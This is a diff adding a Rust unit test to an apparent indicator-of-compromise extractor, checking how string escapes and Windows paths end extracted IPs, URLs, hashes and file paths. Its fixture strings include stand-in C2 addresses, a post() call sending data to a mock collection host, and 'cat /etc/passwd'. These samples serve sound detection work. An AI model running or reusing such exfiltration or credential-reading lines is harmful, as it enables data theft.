@@ -1130,6 +1130,29 @@ fn full_width_square_bracket_defangs_are_refanged() {
 }
 
 #[test]
+fn string_escapes_end_an_indicator_but_not_a_path() {
+    // A notebook, a log line or a script's string escapes line breaks,
+    // tabs and the closing quote.
+    let text = r#"{"source": ["c2 45.142.214.88\nnext line", "see https://evil.example-c2.top/x.py\n", "sha256=3ac0d1e2f3a4b5c6d7e8f90112233445566778899aabbccddeeff00112233445\r\n", "r = post(\"https://ingest.example-c2.top/in?k=abc\", data)", "cat /etc/passwd\tdone"]}"#;
+    assert_eq!(
+        found(text),
+        kinds_values(&[
+            ("ipv4", "45.142.214.88"),
+            ("url", "https://evil.example-c2.top/x.py"),
+            ("sha256", "3ac0d1e2f3a4b5c6d7e8f90112233445566778899aabbccddeeff00112233445"),
+            ("url", "https://ingest.example-c2.top/in?k=abc"),
+            ("file-path", "/etc/passwd"),
+        ])
+    );
+    // The same letters after a backslash in a Windows path are its names.
+    let text = r#"C:\new\tools\x.exe, $env:Temp\test10.lnk, .\rclone.exe and "C:\Temp\""#;
+    assert_eq!(
+        found(text),
+        kinds_values(&[("file-path", r"C:\new\tools\x.exe"), ("file-path", r"C:\Temp\")])
+    );
+}
+
+#[test]
 fn json_unicode_escapes_end_an_indicator() {
     // A Slack or Teams export escapes Japanese text as `\uXXXX`.
     let text = r#"{"text":"C2 https://bassizcellskz.shop/api\u3001\u30ed\u30fc\u30c0 SHA-256 fbc38a97325535c28bd828ff6412f22b14638ca0e51ac6a0e7caa2ade5a2e12d\u3002 \u300chxxp://evil-cdn[.]top/g.php\u300d"}"#;
